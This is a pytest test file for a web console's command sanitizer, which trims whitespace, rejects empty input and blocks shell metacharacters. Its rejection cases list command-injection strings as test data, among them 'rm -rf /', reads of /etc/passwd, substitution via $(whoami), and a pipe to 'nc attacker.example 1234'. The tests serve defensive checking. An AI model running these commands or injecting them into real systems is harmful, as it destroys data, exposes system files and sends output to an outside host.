from __future__ import annotations

import pytest

from webconsole.security.sanitizer import DANGEROUS_CHARACTERS, sanitize


def test_trims_surrounding_whitespace() -> None:
    result = sanitize("   email list --limit 10 \t")
    assert result.ok is True
    assert result.command == "email list --limit 10"


@pytest.mark.parametrize("raw", ["", "   ", "\t  \t"])
def test_rejects_empty_input(raw: str) -> None:
    result = sanitize(raw)
    assert result.ok is False
    assert result.reason == "empty command"


@pytest.mark.parametrize(
    "raw",
    [
        "email list; rm -rf /",
        "email list && cat /etc/passwd",
        "email list | nc attacker.example 1234",
        "email list `whoami`",
        "email list $(whoami)",
        "email list\nrm -rf /",
        "email list\x00rm -rf /",
        "email list --flag=$(cat /etc/passwd)",
        "email list > out.txt",
        "email list < in.txt",
        "email list --path C:\\temp",
    ],
)
def test_rejects_shell_metacharacters(raw: str) -> None:
    result = sanitize(raw)
    assert result.ok is False
    assert result.reason == "contains dangerous characters"


def test_rejects_metacharacter_embedded_in_single_word() -> None:
    assert sanitize("email;list").ok is False


def test_every_dangerous_character_is_rejected() -> None:
    for char in DANGEROUS_CHARACTERS:
        assert sanitize(f"email list{char}x").ok is False, repr(char)


@pytest.mark.parametrize("raw", ["version", " email list --limit 10 ", "calendar events list --days 7"])
def test_sanitize_is_idempotent(raw: str) -> None:
    once = sanitize(raw)
    twice = sanitize(once.command)
    assert once == twice


def test_information_separators_are_not_trimmed() -> None:
    result = sanitize("\x1fversion")
    assert result.ok is True
    assert result.command == "\x1fversion"
